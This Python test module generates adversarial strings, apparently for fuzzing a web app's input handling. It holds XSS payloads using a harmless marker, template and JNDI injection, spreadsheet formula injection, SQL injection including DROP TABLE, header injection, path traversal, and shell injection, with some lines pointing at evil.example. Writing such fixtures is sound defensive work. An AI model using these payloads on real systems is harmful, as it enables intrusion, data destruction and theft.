"""Texts that have broken other sites. Each has a mark, to be found again where it is shown."""

from itertools import count, zip_longest
from random import Random

# What a text calls where it is run as a script; the page itself has no such function.
CALL = "window.__pwned=1"

SCRIPTS = (
    f"<script>{CALL}</script>",
    f"</textarea></title></style><script>{CALL}</script>",
    f'"><img src=x onerror="{CALL}">',
    f"'><svg/onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"<math><mtext><table><mglyph><style><img src onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<style>@import 'javascript:{CALL}';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Pay</button>",
    f"<!--><script>{CALL}</script>-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"\" style=\"position:fixed;inset:0\" onmouseover=\"{CALL}",
    f"`${{{CALL}}}`",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"<scr\0ipt>{CALL}</scr\0ipt>",
    f"＜script＞{CALL}＜/script＞",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{% now 'Y' %}", "{{ settings.SECRET_KEY }}", "{{ request.META }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "%(name)s %s {0} {}", "{{''.__class__.__mro__}}", "${jndi:ldap://x/a}",
    "{# #}{% load x %}", "%%%s%n%x", "#set($x=1)",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-2+3", "@SUM(1)",
    "\t=1+1", "\r=1+1", "=IMPORTXML(1)", "|calc", "＝1+1",
)  # fmt: skip
SEARCHES = (
    "' OR '1'='1", "'; DROP TABLE wishes_wish; --", "\\'; SELECT pg_sleep(9); --", "%' --",
    "a & | !",
    "x:*", "':*&", "((((", "<->", "\\", "%", "_", "*", "1/0", "NULL", "nan", "-1", "1e999", "0x7f",
)  # fmt: skip
HEADERS = (
    "x\r\nBcc: all@evil.example", "x\nSet-Cookie: a=1", "x\r\n\r\n<html>", "x%0d%0aLocation: //e",
    "a@b.kz\nCc: c@d.kz", "=?utf-8?q?x?=", "x\u2028Bcc: y", "x\x85Bcc: y",
)  # fmt: skip
UNSEEN = (
    "a\0b", "\x01\x02\x08\x0b\x1f\x7f", "\u202egnp.exe\u202c", "\u2066\u2067\u2068x\u2069",
    "\ufeffx",
    "z\u200bw\u200cn\u200dj", "\u00adsoft\u00ad", "\u180e", "\ufffe\uffff", "\U000e0041\U000e007f",
    "\ue000", "\u2028\u2029", "\u3164", "\u115f", "\x1b[31m\x1b]0;x\x07", "A" + "\u0300" * 300,
    "".join(f"{letter}\u0336\u0489\u0361" * 9 for letter in "zalgo"),
)  # fmt: skip
SCRIPTS_OF_THE_WORLD = (
    "مرحبا بالعالم", "שלום עולם", "‏مرحبا‎ abc שלום", "ﷺ" * 40, "𝕿𝖊𝖝𝖙 𝓽𝓮𝔁𝓽", "ｆｕｌｌ", "İıſßẞ",
    "ŉǰΐ",
    "👨‍👩‍👧‍👦" * 30, "🏳️‍🌈", "🇰🇿" * 40, "๏̯͡๏", "ஸ்ரீ" * 50, "漢字" * 60, "한국어" * 40,
    "ӘІҢҒҮҰҚӨҺ" * 12,
    "½ ⅷ ㎏ ﬁ", "１２３٤٥٦", "꧁꧂" * 30, "﷽" * 6,
)  # fmt: skip
LONG = (
    "Ж" * 79, "W" * 1_400, "x" * 100_000, "a " * 700, "\n" * 400, "-" * 1_000,
    "a@" + "b" * 300 + ".kz",
    "http://" + "a" * 800, "&nbsp;" * 200, "💣" * 700, "<" * 1_000, "9" * 5_000,
)  # fmt: skip
STRUCTURES = (
    '{"a":' * 90 + "1" + "}" * 90, "[" * 2_000, '{"__proto__":{"x":1}}',
    "<?xml version='1.0'?><a/>",
    "!!python/object/apply:os.system", "O:8:\"stdClass\":0:{}", "../../../../etc/passwd",
    "..\\..\\windows", "file:///etc/passwd", "//evil.example/%2e%2e", "CON", "NUL.txt", "-rf *",
    "$(id)", "`id`", "; id", "| id", "true", "None", "undefined", "[object Object]",
)  # fmt: skip
KINDS = (
    SCRIPTS, TEMPLATES, FORMULAS, SEARCHES, HEADERS, UNSEEN, SCRIPTS_OF_THE_WORLD, LONG, STRUCTURES,
)  # fmt: skip
# The first of each kind, then the second of each: so few of them are still of all kinds.
ALL = tuple(text for row in zip_longest(*KINDS) for text in row if text is not None)


def texts(number: int, seed: int) -> list[str]:
    """So many, each once: those above, then two of them, one within the other."""
    chance, made = Random(seed), dict.fromkeys(ALL[:number])
    for n in count():
        if len(made) >= number:
            return list(made)
        one, other = chance.choice(ALL), chance.choice(SCRIPTS + UNSEEN + SCRIPTS_OF_THE_WORLD)
        at = chance.randrange(len(one) + 1)
        made[f"{n} {one[:at]}{other}{one[at:]}"] = None
    raise AssertionError("unreachable")
